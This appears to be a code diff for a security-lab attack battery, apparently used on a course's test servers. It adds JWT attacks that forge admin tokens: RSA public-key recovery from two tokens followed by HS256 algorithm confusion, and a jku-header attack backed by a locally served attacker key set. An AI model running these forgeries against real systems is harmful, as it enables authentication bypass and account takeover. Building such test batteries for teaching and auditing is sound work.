@@ -15,11 +15,14 @@ import functools
 import http.cookiejar
 from collections.abc import Callable
 
+import jwt
 import requests
 from cryptography.hazmat.primitives.asymmetric import rsa
+from flask import Flask
 
 from authlab.attacks import jwt_attacks as jwt_
 from authlab.attacks import session_attacks as sessions
+from authlab.attacks.key_sources import jku_token, recover_rsa_public_key
 from authlab.attacks.probes import (
     TIMEOUT,
     Finding,
@@ -31,6 +34,8 @@ from authlab.attacks.probes import (
     verdict,
 )
 from authlab.errors import AuthlabError
+from authlab.server import serve
+from authlab.signing_keys import SigningKey
 from authlab.weak import weak_secrets
 
 __all__ = ["ATTACKS", "ATTACKS_BY_ID", "Attack", "NotApplicable"]
@@ -87,7 +92,7 @@ def _weak_secret(target: Target) -> Finding:
     secret = jwt_.crack_hs256(token)
     if secret is None:
         return Finding(False, f"the secret is none of the {len(weak_secrets())} common ones")
-    extra = {"kid": header["kid"]} if "kid" in header else None
+    extra = {name: header[name] for name in ("kid", "typ") if name in header}  # the server's own header
     forged = jwt_.forge_hs256(jwt_.as_user(claims), secret, extra)
     return verdict(target.profile(token=forged), f"secret cracked ({secret!r}), admin token forged")
 
@@ -103,17 +108,39 @@ def _published_public_key(target: Target):
     return None
 
 
+def _confused(target: Target, claims: dict, public, how: str) -> Finding:
+    pem = jwt_.public_key_pem(public)
+    admin = jwt_.as_user(claims)
+    return _first_accepted(target, {f"{how}, HS256 keyed with its PEM{suffix}": jwt_.alg_confusion_token(key, admin)
+                                    for suffix, key in (("", pem), (" (stripped)", pem.strip()))})
+
+
 def _alg_confusion(target: Target) -> Finding:
     header, claims, _ = _observed_token(target)
-    if not str(header.get("alg", "")).upper().startswith("RS"):
+    if str(header.get("alg", "")).upper()[:2] not in ("RS", "ES", "PS"):
         raise NotApplicable(f"signed with {header.get('alg')}: no public key to confuse with a secret")
     public = target.public_key or _published_public_key(target)
     if public is None:
         raise NotApplicable("the public key is not published here: pass it (--public-key)")
-    pem = jwt_.public_key_pem(public)
-    admin = jwt_.as_user(claims)
-    return _first_accepted(target, {f"HS256 keyed with the public PEM{suffix}": jwt_.alg_confusion_token(key, admin)
-                                    for suffix, key in (("", pem), (" (stripped)", pem.strip()))})
+    return _confused(target, claims, public, "public key")
+
+
+def _signed_by(public: rsa.RSAPublicKey, token: str) -> bool:
+    """The signature verifies with ``public`` (only the signature: claims do not matter here)."""
+    with contextlib.suppress(jwt.InvalidTokenError):
+        return bool(jwt.api_jws.decode_complete(token, public, algorithms=["RS256", "RS384", "RS512"]))
+    return False
+
+
+def _hidden_key_confusion(target: Target) -> Finding:
+    header, claims, first = _observed_token(target)
+    if not str(header.get("alg", "")).upper().startswith("RS"):
+        raise NotApplicable(f"signed with {header.get('alg')}: the modulus comes from RSASSA-PKCS1-v1_5 signatures")
+    second = target.login().token
+    known = target.public_key  # known to the battery for the course's servers: confirmed, not computed again
+    if isinstance(known, rsa.RSAPublicKey) and _signed_by(known, first) and _signed_by(known, second):
+        return _confused(target, claims, known, "key confirmed by two signatures")
+    return _confused(target, claims, recover_rsa_public_key(first, second), "key recovered from two tokens")
 
 
 def _kid_injection(target: Target) -> Finding:
@@ -134,14 +161,25 @@ def _embedded_jwk(target: Target) -> Finding:
     return verdict(target.profile(token=forged), "signed with the attacker's key, sent in the jwk header")
 
 
+def _jku(target: Target) -> Finding:
+    _, claims, _ = _observed_token(target)
+    attacker = SigningKey()
+    site = Flask("attacker-jwks")
+    site.get("/jwks.json")(attacker.jwks)
+    with serve(site, name=f"battery-attacker-jwks-{target.name}", show=False) as server:
+        forged = jku_token(jwt_.as_user(claims), server.url + "/jwks.json", attacker)
+        return verdict(target.profile(token=forged), "signed with the attacker's key, its key set named in jku")
+
+
 def _expired(target: Target) -> Finding:
     header, claims, _ = _observed_token(target)
     if target.signing_key is None:
         raise NotApplicable("minting a token captured long ago needs the server's key (--hmac-secret/--private-key)")
     alg = header.get("alg", "HS256")
+    typ = {"typ": header["typ"]} if "typ" in header else None  # refused for its time claims alone, not its type
     return _first_accepted(target, {
-        "token expired an hour ago": jwt_.expired_token(claims, target.signing_key, alg),
-        "token not valid for another hour": jwt_.not_yet_valid_token(claims, target.signing_key, alg),
+        "token expired an hour ago": jwt_.expired_token(claims, target.signing_key, alg, headers=typ),
+        "token not valid for another hour": jwt_.not_yet_valid_token(claims, target.signing_key, alg, headers=typ),
     })
 
 
@@ -204,21 +242,24 @@ ATTACKS = (
     Attack("jwt-unverified", 1, "signature never verified", "CWE-347", JWT_KINDS, _unverified),
     Attack("jwt-alg-none", 2, 'alg "none" accepted', "CWE-347; CVE-2022-23540", JWT_KINDS, _alg_none),
     Attack("jwt-weak-secret", 3, "weak HMAC secret cracked offline", "CWE-1391, CWE-321", JWT_KINDS, _weak_secret),
-    Attack("jwt-alg-confusion", 4, "RS256 public key used as HS256 secret",
+    Attack("jwt-alg-confusion", 4, "public key used as HS256 secret",
            "CWE-347; CVE-2015-9235, CVE-2016-10555, CVE-2017-11424", JWT_KINDS, _alg_confusion),
-    Attack("jwt-kid-injection", 5, "kid header path traversal", "CWE-22 (CWE-89 for SQL lookups)", JWT_KINDS,
+    Attack("jwt-hidden-key-confusion", 5, "unpublished RS256 key recovered, then used as HS256 secret", "CWE-347",
+           JWT_KINDS, _hidden_key_confusion),
+    Attack("jwt-kid-injection", 6, "kid header path traversal", "CWE-22 (CWE-89 for SQL lookups)", JWT_KINDS,
            _kid_injection),
-    Attack("jwt-embedded-jwk", 6, "jwk header key trusted", "CWE-347; CVE-2018-0114", JWT_KINDS, _embedded_jwk),
-    Attack("jwt-expired", 7, "expired / not-yet-valid token accepted", "CWE-613", JWT_KINDS, _expired),
-    Attack("session-predictable", 8, "predictable session IDs", "CWE-330, CWE-338, CWE-340", ("session",),
+    Attack("jwt-embedded-jwk", 7, "jwk header key trusted", "CWE-347; CVE-2018-0114", JWT_KINDS, _embedded_jwk),
+    Attack("jwt-jku", 8, "jku header URL trusted", "CWE-347, CWE-918", JWT_KINDS, _jku),
+    Attack("jwt-expired", 9, "expired / not-yet-valid token accepted", "CWE-613", JWT_KINDS, _expired),
+    Attack("session-predictable", 10, "predictable session IDs", "CWE-330, CWE-338, CWE-340", ("session",),
            _predictable),
-    Attack("session-fixation", 9, "session fixation", "CWE-384", ("session",), fixation_probe),
-    Attack("flask-weak-secret", 10, "Flask SECRET_KEY cracked, session forged", "CWE-1391; CVE-2023-27524",
+    Attack("session-fixation", 11, "session fixation", "CWE-384", ("session",), fixation_probe),
+    Attack("flask-weak-secret", 12, "Flask SECRET_KEY cracked, session forged", "CWE-1391; CVE-2023-27524",
            ("session",), _flask_secret),
-    Attack("logout-replay", 11, "credential still valid after logout", "CWE-613",
+    Attack("logout-replay", 13, "credential still valid after logout", "CWE-613",
            ("session", "jwt-header", "jwt-cookie"), replay_after_logout),
-    Attack("csrf", 12, "cross-site request forgery", "CWE-352", COOKIE_KINDS, csrf_probe),
-    Attack("xss-token-theft", 13, "login cookie readable by script", "CWE-1004, CWE-79",
+    Attack("csrf", 14, "cross-site request forgery", "CWE-352", COOKIE_KINDS, csrf_probe),
+    Attack("xss-token-theft", 15, "login cookie readable by script", "CWE-1004, CWE-79",
            ("session", "jwt-header", "jwt-cookie"), _token_theft),
 )
 ATTACKS_BY_ID = {attack.id: attack for attack in ATTACKS}
